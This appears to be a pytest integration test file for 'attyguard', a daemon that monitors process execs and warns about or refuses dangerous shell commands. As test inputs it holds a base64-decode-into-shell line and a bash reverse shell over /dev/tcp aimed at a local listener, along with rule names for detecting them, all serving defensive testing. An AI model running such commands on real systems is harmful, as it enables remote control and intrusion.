"""The daemon's exec guard with the real daemon on the audit rung (netlink proc connector).

Each test starts `attyguard daemon --ebpf-mode …` (rung forced to `audit`) on a socket in a tmp dir
(killed by the fixture), and a child Python that registers itself as a shell
would (`DaemonClient.register`), holds a warn subscription, and then runs a
command reached through a program started by a program. On rung 4 nothing
can be denied: what would have been is recorded and sent to that shell as a
warn event. The rungs that deny (fanotify, lsm) are tested end to end in
tests/e2e/test_exec_guard.py once the kernel layer is installed.
"""

from __future__ import annotations

import importlib.util
import json
import os
import select
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import IO, Any

import pytest

from tests.daemon_harness import ATTYGUARD, RunningDaemon, remove_tmpdirs, short_tmpdir, wait_for

pytestmark = pytest.mark.skipif(os.geteuid() != 0,
                                reason="the proc connector (rung 4) needs root")

# Tier-1 blocks it (encoded text decoded into a shell); it decodes to `hi`: harmless.
BLOCKED = "echo aGk= | base64 -d | sh"

CHILD = """
import json, os, subprocess, sys, time
from attyguard.daemon.client import DaemonClient, WarnSubscriber
sock, marker, mode = sys.argv[1], sys.argv[2], sys.argv[3]
events, refused = [], []
sub = WarnSubscriber(sock, events.append, on_refused=refused.append)
sub.start()
assert sub.connected.wait(10), "no subscription"
client = DaemonClient(sock, 5000)
reg = client.register()
if mode == "trusted":
    client.trusted("make it so")
inner = "bash -c " + repr(sys.argv[4] + "; touch " + marker)
if mode == "alg":
    import socket
    try:  # the tracepoint is on entry: seen even where the kernel lacks AF_ALG
        socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0).close()
    except OSError:
        pass
    deadline = time.monotonic() + 10
    while not events and time.monotonic() < deadline:
        time.sleep(0.01)
    sub.stop()
    print(json.dumps({"pid": os.getpid(), "events": events}))
    sys.exit(0)
if mode == "orphan":
    # the shell exits at once; its background job runs the command later, from
    # a file (so nothing is judged before the shell has gone)
    later = marker + ".sh"
    with open(later, "w") as f:
        f.write(sys.argv[4] + "; sleep 1; touch " + marker + "\\n")
    subprocess.Popen(["bash", "-c", "sleep 1; bash " + later], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print(json.dumps({"pid": os.getpid()}))
    sys.exit(0)
subprocess.run(["bash", "-c", inner], check=False, capture_output=True)
deadline = time.monotonic() + 10
# Until the would-be refusal itself: other warnings of the same tree (its pipeline's
# execs) may come first.
while mode != "trusted" and not (refused or any("would be refused" in e for e in events)) \
        and time.monotonic() < deadline:
    time.sleep(0.01)
sub.stop()
print(json.dumps({"pid": os.getpid(), "register": reg, "events": events, "refused": refused,
                  "exec_guard": client.exec_guard}))
"""


@pytest.fixture
def daemon() -> Iterator[Callable[..., RunningDaemon]]:
    started: list[RunningDaemon] = []

    def make(*args: str, config_text: str = "[daemon]\n") -> RunningDaemon:
        # Rung 4 forced: these tests are about the proc connector source, whatever
        # stronger rung this machine has.
        config_text = config_text.replace("[daemon]\n", '[daemon]\nexec_rung = "audit"\n', 1)
        d = RunningDaemon(short_tmpdir(), args, config_text)
        started.append(d)
        d.start()
        wait_for(lambda: "exec guard: rung" in d.log() or "exec guard: off" in d.log(), 10,
                 "the exec guard to start", d.log)
        return d

    try:
        yield make
    finally:
        for d in started:
            d.stop()
            print(f"--- daemon log ---\n{d.log()}")
        remove_tmpdirs()


def child(d: RunningDaemon, marker: Path, mode: str = "plain",
          command: str = BLOCKED) -> dict[str, Any]:
    done = subprocess.run([sys.executable, "-c", CHILD, d.socket, str(marker), mode, command],
                          capture_output=True, text=True, timeout=60, cwd="/")
    assert done.returncode == 0, f"child failed:\n{done.stdout}\n{done.stderr}\n{d.log()}"
    return dict(json.loads(done.stdout))


def records(d: RunningDaemon, pid_in: Callable[[dict[str, Any]], bool]) -> list[dict[str, Any]]:
    reply = d.call("events", limit=1000)
    assert reply["ok"], reply
    return [r for r in reply["events"] if pid_in(r)]


def test_warn_mode_records_and_tells_the_owning_shell(
        daemon: Callable[..., RunningDaemon], tmp_path: Path) -> None:
    d = daemon("--ebpf-mode", "warn")
    marker = tmp_path / "marker"
    out = child(d, marker)
    assert out["register"]["exec_guard"] == "warn" and out["register"]["rung"] == "audit"
    assert marker.exists()  # warn mode (and rung 4): nothing is denied
    assert out["refused"] == []
    assert any("would be refused" in e and "obf-" not in e and "bash" in e
               for e in out["events"]), out
    # the record, as `attyguard events` shows it
    found = wait_for(lambda: records(d, lambda r: r["shell"] == out["pid"]
                                     and r["action"] == "warn"), 10, "the record", d.log)
    r = found[0]
    assert r["rung"] == "audit" and any(x.startswith("obf-") for x in r["rules"])
    assert r["argv"][:2] == ["bash", "-c"] and r["ppid"] > 0 and r["uid"] == os.getuid()
    # the harmless execs of the same tree (base64, touch…) were judged and allowed
    allowed = records(d, lambda r: r["shell"] == out["pid"] and r["action"] == "allow")
    assert allowed and all(r["rules"] == [] for r in allowed)


def test_enforce_on_the_audit_rung_cannot_deny_and_says_so(
        daemon: Callable[..., RunningDaemon], tmp_path: Path) -> None:
    d = daemon("--ebpf-mode", "enforce")
    marker = tmp_path / "marker"
    out = child(d, marker)
    assert out["register"]["rung"] == "audit"
    assert marker.exists() and out["refused"] == []
    assert any("would be refused" in e for e in out["events"]), out
    status = d.call("status")["exec"]
    assert status["rung"] == "audit" and status["mode"] == "enforce"
    assert status["counters"]["would_deny"] >= 1 and status["counters"]["denied"] == 0


def test_outside_the_scope_nothing_is_judged(daemon: Callable[..., RunningDaemon],
                                            tmp_path: Path) -> None:
    d = daemon("--ebpf-mode", "warn")
    marker = tmp_path / "m"
    proc = subprocess.run(["bash", "-c", f"bash -c '{BLOCKED}; touch {marker}'"],
                          capture_output=True, timeout=30)
    assert proc.returncode == 0 and marker.exists()
    # a guarded child afterwards proves the sensor was running meanwhile
    out = child(d, tmp_path / "m2")
    assert out["events"]
    assert records(d, lambda r: r["shell"] is None) == []
    assert all(r["shell"] == out["pid"] for r in records(d, lambda r: True))


def test_a_trusted_line_lets_its_execs_run_until_the_next_line(
        daemon: Callable[..., RunningDaemon], tmp_path: Path) -> None:
    d = daemon("--ebpf-mode", "warn")
    out = child(d, tmp_path / "m", mode="trusted")
    assert out["exec_guard"] == "warn"
    assert out["events"] == []
    found = wait_for(lambda: records(d, lambda r: r["shell"] == out["pid"] and r["rules"]),
                     10, "the trusted record", d.log)
    assert all(r["action"] == "allow" and r["reason"].startswith("trusted line")
               for r in found), json.dumps(found, indent=1)


def test_off_mode_starts_no_sensor_but_shells_still_register(
        daemon: Callable[..., RunningDaemon], tmp_path: Path) -> None:
    d = daemon()
    out = child(d, tmp_path / "m")
    assert out["register"]["exec_guard"] == "off" and out["register"]["rung"] is None
    assert out["events"] == [] and (tmp_path / "m").exists()
    assert d.call("status")["exec"]["rung"] is None


def test_register_is_checked_against_the_peer(daemon: Callable[..., RunningDaemon]) -> None:
    d = daemon("--ebpf-mode", "warn", config_text='[daemon]\ngroup = "nogroup"\n')
    # root may register another process; a user may not (SO_PEERCRED decides)
    assert d.call("register", pid=1)["ok"]
    code = ("import json, os, sys\nfrom tests.daemon_harness import raw_call\n"
            "os.setgroups([]); os.setgid(65534); os.setuid(65534)\n"
            "print(json.dumps(raw_call(sys.argv[1], 'register', pid=1)))\n")
    done = subprocess.run([sys.executable, "-c", code, d.socket], capture_output=True,
                          text=True, timeout=30, cwd=str(Path(__file__).parent.parent))
    assert done.returncode == 0, done.stderr
    reply = json.loads(done.stdout)
    assert reply["ok"] is False and reply["error"]["code"] == "forbidden", reply
    assert d.call("register", pid=2 ** 22 + 7)["error"]["code"] == "not_found"


def _read_lines(stream: IO[str], enough: Callable[[list[str]], bool],
                timeout: float = 10.0) -> list[str]:
    """Lines from a child's pipe until `enough`, within a deadline (never a blind read)."""
    got: list[str] = []
    buffer = ""
    deadline = time.monotonic() + timeout
    fd = stream.fileno()
    while not enough(got):
        left = deadline - time.monotonic()
        assert left > 0, f"timed out; got {got}"
        if select.select([fd], [], [], min(left, 0.2))[0]:
            chunk = os.read(fd, 65536).decode()
            assert chunk, f"the stream ended; got {got}"
            buffer += chunk
            *done, buffer = buffer.split("\n")
            got += done
    return got


def test_status_and_events_commands(daemon: Callable[..., RunningDaemon],
                                    tmp_path: Path) -> None:
    d = daemon("--ebpf-mode", "warn")
    follow = subprocess.Popen([str(ATTYGUARD), "events", "--socket", d.socket, "--follow",
                               "--json", "--limit", "0"], stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True)
    try:
        wait_for(lambda: d.call("status")["subscribers"] >= 1, 10, "events --follow", d.log)
        out = child(d, tmp_path / "m")
        assert follow.stdout is not None
        lines = _read_lines(follow.stdout, lambda got: any('"warn"' in x for x in got))
        event = next(e for e in map(json.loads, lines) if e["action"] == "warn")
        for key in ("time", "pid", "ppid", "uid", "program", "argv", "rules", "action", "rung"):
            assert key in event, event
        assert event["shell"] == out["pid"] and event["action"] == "warn"
    finally:
        follow.kill()
        follow.wait()
    done = subprocess.run([str(ATTYGUARD), "events", "--socket", d.socket, "--json"],
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    lines = [json.loads(x) for x in done.stdout.splitlines()]
    assert lines and all(x["rung"] == "audit" for x in lines)
    done = subprocess.run([str(ATTYGUARD), "daemon", "status", "--socket", d.socket, "--json"],
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    status = json.loads(done.stdout)["exec"]
    assert status["rung"] == "audit" and status["counters"]["judged"] >= 1
    done = subprocess.run([str(ATTYGUARD), "daemon", "status", "--socket", d.socket],
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 0 and "rung audit" in done.stdout, done.stdout
    done = subprocess.run([str(ATTYGUARD), "events", "--socket", str(tmp_path / "none")],
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 3 and done.stderr.startswith("attyguard events: cannot reach")
    assert done.stderr.count("\n") == 1


@pytest.mark.parametrize("how", ["-c", "script", "stdin"])
def test_non_interactive_shells_register_too(daemon: Callable[..., RunningDaemon],
                                             tmp_path: Path, how: str) -> None:
    d = daemon("--ebpf-mode", "warn")
    home = tmp_path / "aghome"
    (home / "config").mkdir(parents=True)
    (home / "config" / "config.toml").write_text(
        f'[guard]\ndaemon_socket_path = "{d.socket}"\ndaemon_timeout_ms = 2000\n')
    # The line writes the script it runs, so when the line is judged there is no
    # payload.sh to read (the line guard judges the files a line hands to a shell):
    # only the exec guard sees its text.
    staged = tmp_path / "payload.txt"
    payload = tmp_path / "payload.sh"
    marker = tmp_path / "ran"
    staged.write_text(f"{BLOCKED}; sleep 1; touch {marker}\n")  # (alive for the /proc read)
    line = f"cp {staged} {payload}; bash {payload}"
    script = tmp_path / "outer.sh"
    script.write_text(line + "\n")
    argv = {"-c": [str(ATTYGUARD), "-c", line], "script": [str(ATTYGUARD), str(script)],
            "stdin": [str(ATTYGUARD)]}[how]
    env = {**os.environ, "ATTYGUARD_HOME": str(home), "HOME": str(tmp_path)}
    done = subprocess.run(argv, input=(line + "\n") if how == "stdin" else None,
                          capture_output=True, text=True, timeout=60, env=env,
                          stdin=None if how == "stdin" else subprocess.DEVNULL)
    assert done.returncode == 0 and marker.exists(), done.stderr
    found = wait_for(lambda: records(d, lambda r: r["action"] == "warn"
                                     and r["argv"] == ["bash", str(payload)]), 10,
                     "the would-be refusal", d.log)
    assert found[0]["shell"] is not None


def test_an_orphan_of_an_exited_shell_stays_guarded(daemon: Callable[..., RunningDaemon],
                                                   tmp_path: Path) -> None:
    d = daemon("--ebpf-mode", "warn")
    marker = tmp_path / "m"
    out = child(d, marker, mode="orphan")
    wait_for(marker.exists, 20, "the orphan's command", d.log)
    found = wait_for(lambda: records(d, lambda r: r["shell"] == out["pid"]
                                     and r["action"] == "warn"), 10, "its record", d.log)
    assert found[0]["argv"] == ["bash", f"{marker}.sh"]


def test_a_shell_on_a_network_socket_is_seen_as_a_reverse_shell(
        daemon: Callable[..., RunningDaemon], tmp_path: Path) -> None:
    import socket

    d = daemon("--ebpf-mode", "warn")
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    command = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
    proc = subprocess.Popen([sys.executable, "-c", CHILD, d.socket, str(tmp_path / "m"),
                             "plain", command], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, cwd="/")
    conn = None
    try:
        listener.settimeout(20)
        conn, _ = listener.accept()
        found = wait_for(lambda: records(d, lambda r: "exec.reverse-shell" in r["rules"]), 20,
                         "the reverse shell's record", d.log)
        assert found[0]["argv"] == ["bash", "-i"] and found[0]["action"] == "warn"
    finally:
        if conn is not None:
            conn.close()  # the shell on it reads EOF and exits
        listener.close()
        try:
            proc.communicate(timeout=30)
        finally:
            proc.kill()
            proc.wait()


@pytest.mark.skipif(importlib.util.find_spec("attyguard.kernel.layer") is None,
                    reason="attyguard.kernel.layer (a permission rung) is not installed")
def test_enforce_an_orphan_of_an_exited_shell_is_still_refused(
        daemon: Callable[..., RunningDaemon], tmp_path: Path) -> None:
    # No forced rung: the strongest here (fanotify on this project's machines).
    d = daemon("--ebpf-mode", "enforce", config_text="[accumulator]\n")
    assert d.call("status")["exec"]["rung"] in ("fanotify", "lsm", "signal"), d.log()
    marker = tmp_path / "m"
    out = child(d, marker, mode="orphan")
    found = wait_for(lambda: records(d, lambda r: r["shell"] == out["pid"]
                                     and r["action"] == "block"), 20, "the refusal", d.log)
    assert found[0]["argv"] == ["bash", f"{marker}.sh"]
    assert not marker.exists()


@pytest.mark.skipif(importlib.util.find_spec("attyguard.kernel.layer") is None,
                    reason="attyguard.kernel.layer (the AF_ALG tracepoint) is not installed")
def test_an_af_alg_socket_in_a_guarded_tree_is_a_warning(
        daemon: Callable[..., RunningDaemon], tmp_path: Path) -> None:
    d = daemon("--ebpf-mode", "enforce", config_text="[accumulator]\n")
    out = child(d, tmp_path / "m", mode="alg")
    assert any("AF_ALG" in e for e in out["events"]), out
    found = records(d, lambda r: r["kind"] == "alg_socket")
    assert found and found[0]["pid"] == out["pid"] and found[0]["action"] == "warn"
    assert found[0]["rules"] == ["exec.af-alg-socket"]
